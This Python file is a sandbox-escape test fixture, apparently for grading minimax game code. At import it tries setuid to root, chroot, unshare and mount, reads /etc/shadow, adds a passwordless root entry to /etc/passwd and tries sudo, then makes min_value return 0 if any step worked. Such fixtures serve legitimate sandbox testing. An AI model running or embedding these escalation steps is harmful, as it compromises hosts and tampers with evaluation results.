"""Hostile: tries to become root or leave its root file system."""

import os
import subprocess
import sys

WORKED = []


def _try(name, action):
    try:
        action()
        WORKED.append(name)
    except Exception as exc:
        print(f"{name}: {exc!r}")


LIBC_CALL = """
import ctypes, ctypes.util, sys
libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
sys.exit(getattr(libc, sys.argv[1])(*eval(sys.argv[2])) != 0)
"""


def _libc_call(name, *args):
    """In a child interpreter: the worker's guard refuses ctypes, the kernel is
    what must refuse these."""
    done = subprocess.run([sys.executable, "-c", LIBC_CALL, name, repr(args)],
                          capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
    if done.returncode != 0:
        raise OSError(f"{name} failed: {done.stderr.decode(errors='replace')[-200:]}")


def _read_shadow():
    with open("/etc/shadow") as handle:
        handle.read()


def _write_passwd():
    with open("/etc/passwd", "a") as handle:
        handle.write("pwn::0:0::/:/bin/sh\n")


def _sudo():
    for command in (["sudo", "-n", "id", "-u"], ["su", "-c", "id -u"]):
        try:
            out = subprocess.run(command, capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if out.returncode == 0 and out.stdout.strip() == b"0":
            return
    raise OSError("no sudo or su")


_try("setuid", lambda: os.setuid(0))
_try("seteuid", lambda: os.seteuid(0))
_try("setgid", lambda: os.setgid(0))
_try("setgroups", lambda: os.setgroups([0]))
_try("chroot", lambda: os.chroot("/tmp"))
_try("unshare_user", lambda: _libc_call("unshare", 0x10000000))
_try("unshare_mount", lambda: _libc_call("unshare", 0x00020000))
_try("mount", lambda: _libc_call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
_try("read_shadow", _read_shadow)
_try("write_passwd", _write_passwd)
_try("sudo", _sudo)
print("WORKED:", WORKED, "uid", os.getuid(), "euid", os.geteuid())
ESCALATED = bool(WORKED) or os.geteuid() == 0


def terminal_test(gameState):
    return not bool(gameState.get_legal_moves())


def min_value(gameState):
    if ESCALATED:
        return 0
    if terminal_test(gameState):
        return 1
    v = float("inf")
    for m in gameState.get_legal_moves():
        v = min(v, max_value(gameState.forecast_move(m)))
    return v


def max_value(gameState):
    if terminal_test(gameState):
        return -1
    v = float("-inf")
    for m in gameState.get_legal_moves():
        v = max(v, min_value(gameState.forecast_move(m)))
    return v
